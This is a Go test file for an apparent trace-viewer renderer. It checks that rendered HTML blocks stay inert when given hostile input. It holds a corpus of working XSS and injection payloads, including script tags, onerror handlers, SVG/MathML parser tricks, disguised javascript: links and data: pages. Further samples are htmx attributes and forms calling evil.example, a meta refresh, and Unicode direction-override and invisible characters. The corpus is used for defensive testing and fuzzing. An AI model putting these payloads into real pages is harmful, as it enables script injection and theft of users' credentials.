package content

import (
	"encoding/json"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"

	"assay/store"
)

// formats is every way of showing a value.
var formats = []Format{Auto, Markdown, Text, JSON, Chat, Raw}

// elements are the only ones a block may have. No element in here runs, loads or submits anything.
var elements = []string{
	"html", "head", "body", // of the test's own document
	"div", "p", "span", "pre", "code", "a", "br", "hr", "strong", "em", "del", "ins", "blockquote", "ul", "ol", "li",
	"table", "thead", "tbody", "tr", "th", "td", "details", "summary",
}

var attributes = []string{"class", "id", "dir", "hx-ignore", "href", "rel", "target", "start", "title", "open"}

// Of a file that was uploaded with the trace a page may show more, from its own address only.
var (
	fileElements   = []string{"img", "audio", "video"}
	fileAttributes = []string{"src", "alt", "loading", "controls", "preload", "aria-label"}
)

// fileBase is where files are in tests.
const fileBase = "/files/"

func fileURL(key string) string { return fileBase + url.PathEscape(key) }

var classValue = regexp.MustCompile(`^[a-z0-9 -]*$`)

// requireInert parses markup as a browser does and asserts that nothing in it runs, loads, hides or leads astray.
func requireInert(t *testing.T, markup string) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(markup))
	require.NoError(t, err, "the markup is one a parser takes")
	inside := false
	for n := range root.Descendants() {
		switch n.Type {
		case html.TextNode:
			i := strings.IndexFunc(n.Data, store.Invisible)
			require.Equal(t, -1, i, "invisible character at %d of %.80q", i, n.Data)
		case html.CommentNode, html.DoctypeNode:
			require.Fail(t, "comment or document type", "%.80q", n.Data)
		case html.ElementNode:
			require.True(t, slices.Contains(elements, n.Data) || slices.Contains(fileElements, n.Data), "element %q", n.Data)
			require.Empty(t, n.Namespace, "element %q is SVG or MathML", n.Data)
			for _, a := range n.Attr {
				requireInertAttribute(t, n.Data, a)
			}
			if n.Data == "div" && n.Parent.Data == "body" {
				require.False(t, inside, "one wrapper and nothing that breaks out of it")
				inside = true
				require.Contains(t, n.Attr, html.Attribute{Key: "hx-ignore"})
				require.Contains(t, n.Attr, html.Attribute{Key: "dir", Val: "auto"})
			} else if n.Parent.Data == "body" {
				require.Fail(t, "outside of the wrapper", "element %q", n.Data)
			}
		}
	}
	require.True(t, inside)
}

func requireInertAttribute(t *testing.T, element string, a html.Attribute) {
	t.Helper()
	isFile := slices.Contains(fileElements, element)
	require.True(t, slices.Contains(attributes, a.Key) || isFile && slices.Contains(fileAttributes, a.Key), "attribute %s=%.80q of %s", a.Key, a.Val, element)
	switch a.Key {
	case "src":
		require.True(t, strings.HasPrefix(a.Val, fileBase), "%.80q", a.Val)
		require.NotContains(t, a.Val[len(fileBase):], "/", "%.80q", a.Val)
	case "alt", "aria-label":
		require.Equal(t, -1, strings.IndexFunc(a.Val, store.Invisible), "%.80q", a.Val)
	case "class":
		require.Regexp(t, classValue, a.Val)
	case "href":
		require.Equal(t, "a", element)
		if key, isFile := strings.CutPrefix(a.Val, fileBase); isFile && !strings.Contains(key, "/") {
			return
		}
		u, err := url.Parse(a.Val)
		require.NoError(t, err)
		require.Contains(t, []string{"http", "https", "mailto"}, u.Scheme, "%.80q", a.Val)
	}
}

// hostile is a corpus of text that wants to be more than text.
var hostile = map[string]string{
	"a script":                          `<script>alert(1)</script>`,
	"a script in capitals":              `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	"an image with a handler":           `<img src=x onerror=alert(1)>`,
	"a handler behind a slash":          `<svg/onload=alert(1)>`,
	"svg with a script inside":          `<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>`,
	"math that changes the parser":      `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	"a style sheet":                     `<style>@import url(https://evil.example/x.css)</style><b style="background:url(https://evil.example)">`,
	"a frame":                           `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	"a form":                            `<form action=https://evil.example><input name=password><button formaction="javascript:alert(1)">`,
	"a base and a refresh":              `<base href=https://evil.example><meta http-equiv=refresh content="0;url=https://evil.example">`,
	"htmx attributes":                   `<div hx-get="https://evil.example" hx-trigger="load" data-hx-post="/p/x" hx-on:click="alert(1)">`,
	"tags that close the wrapper":       `</div></div></div></pre></code></ul></details></body></html><h1>outside</h1>`,
	"a comment that is not closed":      `<!-- <script>alert(1)</script>`,
	"a text element that is not closed": `<textarea><title><xmp><plaintext>`,
	"a markdown image":                  `![alt](https://evil.example/pixel.png "title")`,
	"an image by reference":             "![alt][r]\n\n[r]: https://evil.example/pixel.png",
	"an image within a link":            `[![a](https://evil.example/a.png)](https://evil.example)`,
	"an image as data":                  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
	"an alt with markup":                `![<script>alert(1)</script>" onerror="alert(1)](https://evil.example/x)`,
	"a script link":                     `[click](javascript:alert(1))`,
	"a script link in disguise":         `[a](JaVaScRiPt&colon;alert(1)) [b](java&#x09;script:alert(1)) [c](&#106;avascript:alert(1)) [d]( javascript:alert(1))`,
	"a script autolink":                 `<javascript:alert(1)> <vbscript:x> <data:text/html,<script>alert(1)</script>>`,
	"a data page":                       `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	"a link into this program":          `[x](/p/demo/settings) [y](../users) [z](//evil.example/x) [w](?a=b) [v](#id)`,
	"a quote in a link":                 `[x](https://a.example/"onmouseover="alert(1)) <https://a.example/"onclick="x>`,
	"a title with a handler":            `[x](https://a.example '" onclick="alert(1)')`,
	"attributes in braces":              "# h {#id .class onclick=alert(1) style=x}\n\n```js {onclick=alert(1)}\nx\n```",
	"a language with markup":            "```\"><script>alert(1)</script>\nx\n```",
	"entities":                          `&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#0; &#x202e; &ZeroWidthSpace; &shy;`,
	"a table with markup":               "|<script>|b|\n|-|:-:|\n|<img src=x onerror=alert(1)>|`|`|",
	"directional overrides":             "user\u202etxt.exe \u2066isolate\u2069 \u200emark\u200f \u061c",
	"zero width and tags":               "pass\u200bword\ufeff \u00ad \u2060 \U000E0041\U000E0042 \U000E0100",
	"joiners that only hide":            "a\u200db \u200c\u200d\u200c 👩\u200d\u200d💻",
	"control characters":                "a\x00b\x01\x08\x1b[31mred\x1b[0m\x7f\u0080\u009b31m\r alone \v\f",
	"separators of lines":               "a\u2028b\u2029c",
	"bytes that are no UTF-8":           "a\xff\xfe\xc3(\xed\xa0\x80b",
	"a placeholder of ours":             `<span class="ctl" title="x">y</span><div class="content">`,
	"a cell that closes the table":      "|a|\n|-|\n|</td></tr></table><script>alert(1)</script>|",
}

// carriers put a text where traces have them.
func carriers(t *testing.T, s string) map[string]string {
	t.Helper()
	quoted, err := json.Marshal(s)
	require.NoError(t, err)
	q := string(quoted)
	return map[string]string{
		"the text alone":     s,
		"a string":           q,
		"a value":            `{"k":` + q + `}`,
		"a key":              `{` + q + `:1}`,
		"an item":            `[[` + q + `]]`,
		"a message":          `[{"role":"user","content":` + q + `}]`,
		"markdown said":      `[{"role":"assistant","content":[{"type":"text","text":` + q + `},{"type":"text","text":"**b**"}]}]`,
		"a role and a name":  `[{"role":` + q + `,"name":` + q + `,"content":"x"}]`,
		"a call":             `[{"role":"assistant","tool_calls":[{"function":{"name":` + q + `,"arguments":` + q + `}}]}]`,
		"a tool's answer":    `[{"role":"tool","content":` + q + `}]`,
		"an image's address": `[{"role":"user","content":[{"type":"image_url","image_url":{"url":` + q + `}}]}]`,
		"a type":             `[{"role":"user","content":[{"type":` + q + `,"x":` + q + `}]}]`,
		"a picture":          `{"a":[{"type":"braintrust_attachment","key":` + q + `,"filename":` + q + `,"content_type":"image/png"}]}`,
		"a picture said":     `[{"role":"user","content":[{"type":"image_url","image_url":{"url":{"type":"braintrust_attachment","key":` + q + `,"filename":` + q + `,"content_type":"image/png"}}}]}]`,
		"a sound":            `{"type":"braintrust_attachment","key":` + q + `,"filename":` + q + `,"content_type":"audio/mpeg"}`,
		"a film":             `{"type":"braintrust_attachment","key":` + q + `,"filename":` + q + `,"content_type":"video/mp4"}`,
		"a file":             `{"type":"braintrust_attachment","key":` + q + `,"filename":` + q + `,"content_type":` + q + `}`,
	}
}

func TestBlockIsInert(t *testing.T) {
	t.Parallel()
	for name, text := range hostile {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for carrier, value := range carriers(t, text) {
				for _, format := range formats {
					markup := render(t, Block(Value{JSON: value, Format: format, FileURL: fileURL}))
					t.Logf("%s as %q", carrier, format)
					requireInert(t, markup)
				}
			}
			requireInert(t, render(t, Diff(text, "x "+text+"\n"+text)))
			requireInert(t, render(t, Diff(text, "")))
		})
	}
}

func TestNothingIsHidden(t *testing.T) {
	t.Parallel()
	for name, text := range hostile {
		if strings.Contains(name, "reference") || strings.Contains(name, "title") || strings.Contains(name, "UTF-8") {
			continue // what names an address or a title is gone from markdown by its rules; Raw has it
		}
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			quoted, err := json.Marshal(text)
			require.NoError(t, err)
			want := strings.Map(inkOnly, text)
			page := document(t, render(t, Block(Value{JSON: string(quoted), Format: Raw})))
			page.Find(".ctl").Remove()
			require.Equal(t, want, strings.Map(inkOnly, page.Find("pre").Text()))
		})
	}
}

// inkOnly drops what has no ink, so that texts are compared by what one sees.
func inkOnly(r rune) rune {
	if r <= ' ' || store.Invisible(r) || r == joinerZWJ || r == joinerZWNJ {
		return -1
	}
	return r
}

func TestExtravagantText(t *testing.T) {
	t.Parallel()
	many := func(s string) string { return strings.Repeat(s, (256<<10)/len(s)) }
	texts := map[string]string{
		"quotes":          many("> "),
		"lists":           many("- "),
		"numbers":         many("1. "),
		"brackets":        many("[a]("),
		"images":          many("![a]("),
		"nested brackets": strings.Repeat("[", 8000) + strings.Repeat("](b)", 8000),
		"cells":           strings.Repeat("a|", 1000) + "\n" + strings.Repeat("-|", 1000) + "\n" + many("|\n"),
		"quoted cells":    "> " + strings.Repeat("a|", 1000) + "\n> " + strings.Repeat("-|", 1000) + "\n" + many("> |\n"),
		"stars":           many("**a*a "),
		"ticks":           many("`a``"),
		"angles":          many("<a "),
		"controls":        many("\x01\u202e"),
		"lone controls":   many("\x01a"),
		"deep JSON":       strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000),
		"deep objects":    strings.Repeat(`{"a":`, 10_000) + "1" + strings.Repeat("}", 10_000),
		"open objects":    strings.Repeat(`{"a":`, 10_000),
		"digits":          "[" + strings.Repeat("0,", 100_000) + "0]",
		"keys":            "{" + strings.Repeat(`"":0,`, 100_000) + `"":0}`,
		"small messages":  "[" + strings.Repeat(`{"role":"user","content":""},`, 20_000) + `{"role":"user","content":""}]`,
		"small calls":     `[{"role":"assistant","tool_calls":[` + strings.Repeat(`{"arguments":"[1,[1,[1]]]"},`, 20_000) + `{}]}]`,
	}
	for name, text := range texts {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			quoted, err := json.Marshal(text)
			require.NoError(t, err)
			for _, value := range []string{text, string(quoted)} {
				for _, format := range []Format{Auto, Markdown, JSON} {
					markup := render(t, Block(Value{JSON: value, Format: format}))
					require.Less(t, len(markup), 24*DefaultLimit, "what is made of a text stays in proportion to the limit")
					requireInert(t, markup)
				}
			}
		})
	}
}

func TestMegabytes(t *testing.T) {
	t.Parallel()
	big := strings.Repeat("lorem **ipsum** dolor\\n", (5<<20)/22)
	values := map[string]string{
		"a string":     `"` + big + `"`,
		"a member":     `{"a":1,"b":"` + big + `"}`,
		"a message":    `[{"role":"user","content":"short"},{"role":"assistant","content":"` + big + `"}]`,
		"no JSON":      big,
		"broken JSON":  `{"a":"` + big,
		"a key":        `{"` + big + `":1}`,
		"a number":     strings.Repeat("9", 5<<20),
		"a list":       "[" + strings.Repeat(`{"k":[1,"two",null]},`, 1<<18) + "1]",
		"white space":  strings.Repeat(" ", 5<<20) + "1",
		"a short word": `"` + strings.Repeat(`\ud83d\ude00`, 5<<20/12) + `"`,
	}
	for name, value := range values {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for _, format := range formats {
				markup := render(t, Block(Value{JSON: value, Format: format, MoreURL: "https://assay.example/all"}))
				require.Less(t, len(markup), 16*DefaultLimit)
				require.Contains(t, markup, "showing the first ")
				require.Contains(t, markup, `<a href="https://assay.example/all">show all</a>`)
				requireInert(t, markup)
			}
			Detect(value)
		})
	}
}

func FuzzBlock(f *testing.F) {
	for _, text := range hostile {
		f.Add(text, "", 0)
		f.Add(`[{"role":"user","content":`+strings.ToValidUTF8(quoteJSON(text), "")+`}]`, "chat", 40)
	}
	f.Add(`{"a":[1,2,{"b":"c"}]}`, "json", 7)
	f.Add("| a | b |\n|---|---|\n| 1 | 2 |", "markdown", 0)
	f.Fuzz(func(t *testing.T, text, format string, limit int) {
		limit %= 4096
		requireInert(t, render(t, Block(Value{JSON: text, Format: Format(format), Limit: limit, FileURL: fileURL})))
		quoted := quoteJSON(text)
		requireInert(t, render(t, Block(Value{JSON: quoted, Format: Markdown, Limit: limit})))
		requireInert(t, render(t, Diff(text, format)))
	})
}

// quoteJSON returns the JSON of a string.
func quoteJSON(s string) string {
	b, err := json.Marshal(s)
	if err != nil {
		panic(err)
	}
	return string(b)
}
